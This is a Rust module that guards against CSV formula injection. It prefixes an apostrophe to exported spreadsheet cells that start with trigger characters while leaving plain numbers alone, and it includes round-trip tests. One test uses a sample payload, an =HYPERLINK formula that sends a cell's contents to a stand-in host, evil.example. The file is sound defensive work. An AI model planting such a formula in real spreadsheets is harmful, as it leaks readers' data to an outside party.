//! Spreadsheet cells that cannot run: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is
//! taken as a formula by Excel and LibreOffice (`=HYPERLINK(…)` in a centre's name sends the reader's data away
//! when clicked), so every exported cell starting so is written after an apostrophe, which the spreadsheet
//! shows as text (OWASP's rule for CSV injection). A plain number (`-12.05`) is no formula and keeps its form,
//! so an exported amount reads back as the same amount; the readers of spreadsheets take the apostrophe off
//! again, so a neutralised name matches the name it came from. A cell that already starts with apostrophes before
//! such a character gets one more, so that reading takes off exactly the one writing added.

use std::borrow::Cow;

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` is a decimal number, optionally negative: `-12.05`, `2024`.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (units, decimals) = digits.split_once('.').unwrap_or((digits, "0"));
    !units.is_empty()
        && !decimals.is_empty()
        && units.bytes().all(|b| b.is_ascii_digit())
        && decimals.bytes().all(|b| b.is_ascii_digit())
}

/// Whether a spreadsheet would run `cell`, or would once an apostrophe before it is taken off.
fn needs_quote(cell: &str) -> bool {
    let bare = cell.trim_start_matches('\'');
    bare.starts_with(TRIGGERS) && !is_number(bare)
}

/// `cell` as it is safe to export.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_quote(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as read from a spreadsheet: an exported cell neutralised by [`neutralise`] is read back as it was.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_a_spreadsheet_would_run_are_written_as_text() {
        let formula = "=HYPERLINK(\"http://evil.example/?\"&D3,\"Centre social\")";
        assert_eq!(neutralise(formula), format!("'{formula}"));
        for cell in [
            "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "=1", "-", "--1", "-1e3", "-.5", "-1.",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in [
            "Centre social Henri Matisse",
            "-12.05",
            "-7",
            "18000.00",
            "2024",
            "",
            " =1",
            "a=b",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_neutralised_cell_reads_back_as_it_was() {
        for cell in [
            "=HYPERLINK(\"x\")",
            "+33 3 27",
            "-2+3",
            "@x",
            "\tx",
            "plain",
            "-12.05",
            "'quoted",
            "'-12.05",
            "'=1",
            "''+1",
        ] {
            assert_eq!(restore(&neutralise(cell)), cell, "{cell:?}");
        }
    }
}
